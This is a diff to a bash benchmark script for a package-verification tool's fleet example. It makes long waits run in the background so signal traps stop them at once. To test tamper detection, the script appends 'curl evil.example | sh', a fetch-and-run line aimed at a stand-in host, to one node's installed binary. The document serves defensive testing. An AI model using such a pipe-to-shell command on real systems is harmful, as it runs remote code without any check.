@@ -29,8 +29,10 @@ veripack() { "$REPO/veripack" "$@"; }
 veripack --version >/dev/null   # builds the CLI once, outside the timings
 
 pids=()
+step=   # the waited-for step in progress (a sleep or a fleet.py phase), so a signal's trap runs at once and stops it
 cleanup() {
   local p
+  [ -n "$step" ] && kill -TERM "$step" 2>/dev/null || true
   for p in "${pids[@]}"; do kill -TERM "$p" 2>/dev/null || true; done
   for _ in $(seq 1 30); do
     local alive=0
@@ -44,6 +46,8 @@ cleanup() {
 trap cleanup EXIT
 trap 'exit 130' INT
 trap 'exit 143' TERM
+# bash runs a trap only after the foreground command ends: long steps run in the background and are waited for
+waited() { "$@" & step=$!; local rc=0; wait $step || rc=$?; step=; return $rc; }
 free_port() { python3 -c 'import socket; s=socket.socket(); s.bind(("127.0.0.1",0)); print(s.getsockname()[1])'; }
 now() { date +%s.%N; }
 say() { echo "fleet: $*" >&2; }
@@ -146,9 +150,9 @@ done
 say "all agents up and scraped; idle for ${IDLE_SECONDS} s (RSS, CPU, idle polls)"
 
 # idle: the agents started, polled and checked at least once; measure over a window without updates
-sleep 20
+waited sleep 20
 python3 "$FLEET_PY" "$WORK" idle-start
-sleep "$IDLE_SECONDS"
+waited sleep "$IDLE_SECONDS"
 python3 "$FLEET_PY" "$WORK" idle-end
 
 # publish 2.0: every fleet agent installs it, the canary installs it, fails its health check and rolls back
@@ -156,17 +160,17 @@ say "publishing 2.0"
 t0=$(now)
 veripack repo add pub acme-mme-2.0.csar --keys keys --trust root.pem >/dev/null
 ok=0
-python3 "$FLEET_PY" "$WORK" wait-update "$t0" 180 || ok=1
+waited python3 "$FLEET_PY" "$WORK" wait-update "$t0" 180 || ok=1
 
 # one node's slot modified: the agent's next verify-installed finds it, Prometheus fires the alert
 say "modifying node01's installed mmed"
 t1=$(now)
 chmod u+w node01/current/Files/bin/mmed && echo 'curl evil.example | sh' >> node01/current/Files/bin/mmed
-python3 "$FLEET_PY" "$WORK" wait-alert "$t1" "$PROM_PORT" 120 || ok=1
+waited python3 "$FLEET_PY" "$WORK" wait-alert "$t1" "$PROM_PORT" 120 || ok=1
 # a verify-installed of every other node's slot after the update (1 MiB artifact): its wall time, warm
-python3 "$FLEET_PY" "$WORK" wait-checks "$(python3 -c "import json; print(json.load(open('update.json'))['t_end'])")" 60
+waited python3 "$FLEET_PY" "$WORK" wait-checks "$(python3 -c "import json; print(json.load(open('update.json'))['t_end'])")" 60
 # a warm agent: one node verifies its slot 25 times in a row (SIGHUP), the last 20 are reported
-python3 "$FLEET_PY" "$WORK" warm 25
+waited python3 "$FLEET_PY" "$WORK" warm 25
 
 echo
 echo "# examples/fleet/run.sh $N, $(date -u +%Y-%m-%dT%H:%M:%SZ), $(nproc) cores, $(awk '/MemTotal/{printf "%.0f GiB", $2/1048576}' /proc/meminfo), load before the run's end: $(cut -d' ' -f1-3 /proc/loadavg)"
